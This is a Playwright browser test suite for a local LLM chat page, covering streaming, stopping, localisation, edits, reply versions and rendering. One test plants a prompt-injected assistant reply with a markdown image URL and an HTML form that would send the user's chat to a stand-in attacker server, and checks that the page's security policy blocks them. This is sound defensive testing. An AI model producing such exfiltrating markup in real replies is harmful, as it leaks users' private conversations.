"""The chat page in a real browser (Debian's Chromium driven by Playwright): type, watch the reply
stream, stop it, reload and find the chat again, and read the page in Chinese.

Screenshots of each step go to tests/artifacts/. Without /usr/bin/chromium the tests are
skipped, except under CI (CI set), where a missing browser is a failure.
"""

from __future__ import annotations

import dataclasses
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect, sync_playwright

from app.application import App
from app.engine import Engine
from app.settings import AppSettings, SamplingSettings
from tests.chromium import ARGS, CHROMIUM
from tests.conftest import wait_until
from tests.test_ui import LONGEST

ARTIFACTS = Path(__file__).resolve().parent / "artifacts"

# Watches the chat from inside the page: once the new reply (after the first `n` bot bubbles)
# has been seen growing twice, clicks Stop at once, in the same task, and resolves with the
# lengths it saw. Clicking from a polling test would land late on a busy two-core machine.
STOP_WHEN_GROWING = """n => { window.stopWhenGrowing = new Promise(resolve => {
  const lengths = [];
  const observer = new MutationObserver(() => {
    const bubbles = document.querySelectorAll('#chatbot .bot');
    if (bubbles.length <= n) return;
    const length = bubbles[bubbles.length - 1].innerText.length;
    if (length > (lengths[lengths.length - 1] || 0)) lengths.push(length);
    if (lengths.length >= 3) {
      observer.disconnect();
      document.querySelector('#stop').click();
      resolve([lengths, Math.round(performance.now())]);
    }
  });
  observer.observe(document.querySelector('#chatbot'), {subtree: true, childList: true, characterData: true});
}); }"""

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing: CI must install Debian's chromium package")
        pytest.skip(f"{CHROMIUM} is not installed")
    # A busy two-core test machine needs more than Playwright's default of 5 s per expectation.
    expect.set_options(timeout=30_000)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
        yield browser
        browser.close()


@pytest.fixture
def app(engine: Engine, make_app: Any) -> App:
    return make_app(engine, AppSettings(sampling=SamplingSettings(max_tokens=8, ignore_eos=True)))


@pytest.fixture
def open_page(browser: Any, start_server: Any) -> Iterator[Any]:
    """open_page(app, locale) -> a page showing a new server for `app`. Pages close before their
    server stops: an open page keeps a connection that holds the server's shutdown."""
    contexts = []

    def open_(app: App, locale: str = "en-US") -> Any:
        server = start_server(app)
        contexts.append(browser.new_context(locale=locale, viewport={"width": 1280, "height": 900}))
        page = contexts[-1].new_page()
        page.goto(server.url)
        # The input opens once the page has loaded the saved chat.
        expect(page.locator("#chat-input textarea")).to_be_editable()
        return page

    yield open_
    for context in contexts:
        context.close()


def shot(page: Any, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def test_type_stream_stop_reload(open_page: Any, long_engine: Engine, make_app: Any) -> None:
    app = make_app(long_engine, AppSettings(sampling=dataclasses.replace(LONGEST, max_tokens=8)))
    page = open_page(app)
    # With no chat yet, the chat pane invites a first message.
    expect(page.locator("#chatbot").get_by_text("Ask anything")).to_be_visible()

    box = page.locator("#chat-input textarea")
    box.fill("Hello, how are you today?")
    shot(page, "01-typed")
    box.press("Enter")
    # A short first reply, with its speed line.
    expect(page.locator("#chatbot .reply-stats")).to_contain_text("8 tokens")

    # A reply of up to 2,000 tokens from the slow engine (20 s or more): it cannot end before
    # Stop even if the page freezes for seconds while it renders random text.
    app.update_settings(sampling=LONGEST)
    page.evaluate(STOP_WHEN_GROWING, page.locator("#chatbot .bot").count())
    box.fill("Write a short poem about the sea and the stars.")
    box.press("Enter")
    # The reply grows on screen, update after update; then Stop.
    sent = page.evaluate("Math.round(performance.now())")
    lengths, clicked = page.evaluate("window.stopWhenGrowing")
    assert lengths == sorted(lengths) and len(set(lengths)) == 3, lengths
    shot(page, "02-streaming")
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 0, timeout=10), "Stop did not abort"

    # The stopped reply is saved with what was written, and the speed line says it was stopped.
    def saved() -> list:
        convs = app.conversations.list()
        return app.conversations.messages(convs[0].id) if convs else []

    assert wait_until(lambda: len(saved()) == 4)
    reply = saved()[3]
    # Stopped when clicked: far from the 2,000 tokens it was allowed.
    assert reply.stats.finish_reason == "abort", f"Stop clicked {clicked - sent} ms after sending: {reply.stats}"
    assert 0 < reply.stats.completion_tokens < 1500, reply.stats
    expect(page.locator("#chatbot .reply-stats").last).to_contain_text("stopped")
    shot(page, "03-stopped")
    assert box.input_value() == ""

    page.reload()
    expect(page.locator("#chatbot").get_by_text("Write a short poem about the sea and the stars.")).to_be_visible()
    expect(page.locator("#chatbot .reply-stats").last).to_contain_text("stopped")
    # The sidebar lists the chat, titled from its first message.
    expect(page.get_by_role("radio", name="Hello, how are you today?")).to_be_checked()
    shot(page, "04-reloaded")


def test_page_follows_the_browser_language(open_page: Any, app: App) -> None:
    page = open_page(app, "zh-CN")
    for label in ("发送", "停止", "重新生成", "＋ 新对话"):
        expect(page.get_by_role("button", name=label)).to_be_visible()
    for tab in ("对话", "模型", "设置", "系统"):
        expect(page.get_by_role("tab", name=tab)).to_be_visible()
    expect(page.locator("#chat-input textarea")).to_have_attribute("placeholder", "输入消息：回车发送，Shift+回车换行")
    # Text rendered in Python (the status bar) follows the browser's language too.
    expect(page.locator("#status-bar")).to_contain_text("就绪：tiny-qwen2")
    shot(page, "05-chinese")

    page.get_by_role("tab", name="设置").click()
    expect(page.get_by_role("button", name="应用并重新加载")).to_be_visible()
    expect(page.get_by_text("温度", exact=True)).to_be_visible()
    # Each sampling field says which default it follows: the tiny model's own temperature is 0.9.
    expect(page.get_by_text("模型默认：0.9").first).to_be_visible()
    shot(page, "06-chinese-settings")

    # An error raised in Python arrives in Chinese as well.
    page.get_by_role("tab", name="对话").click()
    page.get_by_role("button", name="发送").click()
    expect(page.get_by_text("消息为空：请先输入内容。")).to_be_visible()
    shot(page, "07-chinese-error")


def test_edit_a_message_and_continue(open_page: Any, app: App) -> None:
    page = open_page(app)
    expect(page.locator("#chatbot").get_by_text("Ask anything")).to_be_visible()
    box = page.locator("#chat-input textarea")
    box.fill("First question")
    box.press("Enter")
    expect(page.locator("#chatbot .reply-stats")).to_contain_text("8 tokens")

    page.locator("#chatbot").get_by_role("button", name="Edit").first.click()
    editor = page.locator("#chatbot textarea").first
    editor.fill("Edited question")
    shot(page, "08-editing")
    page.locator("#chatbot").get_by_role("button", name="Submit").first.click()

    def saved() -> list[str]:
        convs = app.conversations.list()
        return [m.content for m in app.conversations.messages(convs[0].id)] if convs else []

    assert wait_until(lambda: len(saved()) == 2 and saved()[0] == "Edited question"), saved()
    expect(page.locator("#chatbot .reply-stats")).to_contain_text("8 tokens")
    expect(page.locator("#chatbot").get_by_text("Edited question")).to_be_visible()
    expect(page.locator("#chatbot").get_by_text("First question")).to_have_count(0)
    shot(page, "09-edited")


def test_a_refused_message_goes_back_into_the_box(open_page: Any, app: App) -> None:
    page = open_page(app)
    box = page.locator("#chat-input textarea")
    too_long = "hello " * 600
    box.fill(too_long)
    box.press("Enter")
    expect(page.get_by_text("Start a new chat, shorten the message")).to_be_visible()
    # The box emptied when the message was sent; the refused message is not lost.
    expect(box).to_have_value(too_long)
    assert app.conversations.list() == []
    shot(page, "10-refused")


def test_enter_while_a_reply_streams_keeps_the_new_text(open_page: Any, long_engine: Engine, make_app: Any) -> None:
    app = make_app(long_engine, AppSettings(sampling=LONGEST))
    page = open_page(app)
    box = page.locator("#chat-input textarea")
    box.fill("Write a long story about the sea.")
    box.press("Enter")
    expect(box).to_have_value("")
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 1)
    # A second message typed and sent while the first is being answered stays in the box.
    box.fill("And then about the stars.")
    box.press("Enter")
    page.get_by_role("button", name="Send").click()
    page.wait_for_timeout(500)
    expect(box).to_have_value("And then about the stars.")
    page.locator("#stop").click()
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 0, timeout=10), "Stop did not abort"
    # Stopped: the first message was answered in part and saved; the new text is still there.
    assert wait_until(lambda: len(app.conversations.list()) == 1)
    expect(box).to_have_value("And then about the stars.")
    # The page hears of the stop a moment after the server: until then Enter is still held back.
    page.wait_for_function("() => !window.vllmChatSending")
    box.press("Enter")
    expect(box).to_have_value("")
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 1)
    page.locator("#stop").click()
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 0, timeout=10), "Stop did not abort"
    shot(page, "11-sent-while-streaming")


class Listener:
    """A web server on another loopback port, standing for the attacker's: counts what reaches it."""

    def __init__(self) -> None:
        import http.server

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_reply_cannot_send_the_chat_to_another_server(open_page: Any, app: App) -> None:
    """A prompt-injected reply with an image and a form pointing elsewhere: nothing leaves the page,
    while the page's own rendering (math, code highlighting) still works under the policy."""
    listener = Listener()
    try:
        conv = app.conversations.create("Injected")
        app.conversations.add_message(conv.id, "user", "my secret plan")
        app.conversations.add_message(
            conv.id,
            "assistant",
            (
                f"Here it is ![x]({listener.url}/img?d=my+secret+plan)\n\n"
                f'<form action="{listener.url}/form" method="post"><button id="evil">Continue</button></form>\n\n'
                "$$x^2 + y^2$$\n\n```python\nprint('hello')\n```\n"
            ),
        )
        page = open_page(app)
        violations: list[str] = []
        page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
        page.reload()
        chat = page.locator("#chatbot")
        expect(chat.get_by_text("Here it is")).to_be_visible()
        expect(chat.locator(".katex").first).to_be_visible()
        expect(chat.locator("pre code").first).to_contain_text("print")
        # The form renders; submitting it (as a user fooled into clicking would) goes nowhere.
        expect(chat.locator("#evil")).to_have_count(1)
        page.evaluate("document.querySelector('#chatbot #evil').click()")
        page.wait_for_timeout(1500)
        shot(page, "12-injected-reply")
        assert listener.hits == []
        # Only the attacker's address was blocked: none of the page's own resources.
        assert all(listener.url in v or "form-action" in v for v in violations), violations
    finally:
        listener.close()


MARKDOWN_REPLY = (
    "Inline math $E = mc^2$ and prices: it costs $5 and $10.\n\n"
    "$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$\n\n"
    "```python\ndef area(r):\n    return 3.14159 * r ** 2\n```\n\n"
    "| step | loss |\n|---|---|\n| 1 | 2.31 |\n| 2 | 1.87 |\n"
)


def test_math_and_markdown_as_models_write_them(open_page: Any, app: App) -> None:
    conv = app.conversations.create("Markdown")
    app.conversations.add_message(conv.id, "user", "Show me everything")
    app.conversations.add_message(conv.id, "assistant", MARKDOWN_REPLY)
    page = open_page(app)
    reply = page.locator("#chatbot .bot").first
    # Inline $...$ and $$ blocks are typeset; the prices stay prices.
    expect(reply.locator(".katex")).to_have_count(2)
    expect(reply.locator(".katex-display")).to_have_count(1)
    expect(reply).to_contain_text("it costs $5 and $10.")
    # Code is highlighted by language and has its own copy button.
    code = reply.locator("pre code")
    expect(code).to_contain_text("def area(r):")
    expect(code.locator(".token.keyword").first).to_have_text("def")
    expect(reply.locator(".copy_code_button")).to_have_count(1)
    expect(reply.locator("table td")).to_have_text(["1", "2.31", "2", "1.87"])
    shot(page, "13-math-and-markdown")


def test_versions_of_a_reply_switch_and_survive_a_reload(open_page: Any, app: App) -> None:
    page = open_page(app)
    chat = page.locator("#chatbot")
    label = page.locator("#version-label")
    box = page.locator("#chat-input textarea")
    box.fill("Name a colour")
    box.press("Enter")
    expect(chat.locator(".reply-stats")).to_contain_text("8 tokens")
    # One version: no version buttons yet.
    expect(page.locator("#version-bar")).to_be_hidden()
    page.locator("#regenerate").click()
    expect(chat.locator(".version-count")).to_have_text("2/2")
    expect(label).to_have_text("Reply 2/2")
    expect(page.get_by_role("button", name="Next version")).to_be_disabled()

    def shown() -> list[str]:
        return [m.content for m in app.conversations.messages(app.conversations.list()[0].id)]

    exported = app.conversations.export_json(app.conversations.list()[0].id)["messages"]
    first, second = [m["content"] for m in exported[1:]]
    assert shown()[1] == second
    page.get_by_role("button", name="Previous version").click()
    expect(label).to_have_text("Reply 1/2")
    expect(chat.locator(".version-count")).to_have_text("1/2")
    assert wait_until(lambda: shown()[1] == first)
    shot(page, "14-version-1-of-2")

    # The chat continues from the version shown, and after a reload that version is still shown.
    box.fill("And another?")
    box.press("Enter")
    assert wait_until(lambda: len(shown()) == 4)
    assert shown()[:2] == ["Name a colour", first]
    page.reload()
    expect(chat.get_by_text("And another?")).to_be_visible()
    expect(label).to_have_text("Reply 1/2")
    page.get_by_role("button", name="Next version").click()
    expect(chat.get_by_text("And another?")).to_have_count(0)
    expect(label).to_have_text("Reply 2/2")
    expect(chat.locator(".version-count")).to_have_text("2/2")
    assert wait_until(lambda: shown() == ["Name a colour", second])
    shot(page, "15-version-2-of-2")


def test_an_edit_starts_a_branch_and_the_old_one_stays_reachable(open_page: Any, app: App) -> None:
    page = open_page(app)
    chat = page.locator("#chatbot")
    box = page.locator("#chat-input textarea")
    for question in ("First question", "Second question"):
        box.fill(question)
        box.press("Enter")
        expect(chat.get_by_text(question)).to_be_visible()
        page.wait_for_function("() => !window.vllmChatSending")
    chat.get_by_role("button", name="Edit").first.click()
    chat.locator("textarea").first.fill("Edited question")
    chat.get_by_role("button", name="Submit").first.click()

    def shown() -> list[str]:
        return [m.content for m in app.conversations.messages(app.conversations.list()[0].id)]

    # What the model was sent next is this path: the edited question alone, the old branch not.
    assert wait_until(lambda: len(shown()) == 2 and shown()[0] == "Edited question"), shown()
    expect(chat.get_by_text("Second question")).to_have_count(0)
    expect(chat.locator(".version-count")).to_have_text("2/2")
    expect(page.locator("#version-label")).to_have_text("Your message 2/2")
    page.reload()
    expect(chat.get_by_text("Edited question")).to_be_visible()
    page.get_by_role("button", name="Previous version").click()
    expect(chat.get_by_text("Second question")).to_be_visible()
    expect(page.locator("#version-label")).to_have_text("Your message 1/2")
    assert shown()[0] == "First question" and shown()[2] == "Second question"
    shot(page, "16-old-branch")


SCROLLER = """() => { const all = [...document.querySelectorAll('#chatbot *')];
  const el = all.find(e => e.scrollHeight > e.clientHeight + 10 && getComputedStyle(e).overflowY !== 'visible');
  return el ? [el.scrollTop, el.scrollHeight - el.clientHeight] : null; }"""


def test_auto_scroll_follows_at_the_bottom_and_stays_when_scrolled_up(
    open_page: Any, long_engine: Engine, make_app: Any
) -> None:
    # Earlier messages and the reply within the slow engine's 2,048 tokens.
    app = make_app(long_engine, AppSettings(sampling=dataclasses.replace(LONGEST, max_tokens=1000)))
    conv = app.conversations.create("Long")
    for i in range(10):
        app.conversations.add_message(conv.id, "user", f"Question {i}")
        app.conversations.add_message(conv.id, "assistant", MARKDOWN_REPLY)
    page = open_page(app)
    box = page.locator("#chat-input textarea")
    box.fill("Write a long story about the sea.")
    box.press("Enter")
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 1)
    page.wait_for_timeout(3000)
    # At the bottom: the view follows the growing reply.
    top, bottom = page.evaluate(SCROLLER)
    assert bottom - top < 60, (top, bottom)
    # Scrolled up: it stays where the user put it while the reply goes on.
    page.locator("#chatbot").get_by_text("Question 2", exact=True).scroll_into_view_if_needed()
    page.wait_for_timeout(300)
    before = page.evaluate(SCROLLER)[0]
    page.wait_for_timeout(3000)
    after, bottom = page.evaluate(SCROLLER)
    assert long_engine.num_unfinished_requests() == 1
    assert abs(after - before) < 5 and bottom - after > 500, (before, after, bottom)
    page.locator("#stop").click()
    assert wait_until(lambda: long_engine.num_unfinished_requests() == 0, timeout=10)
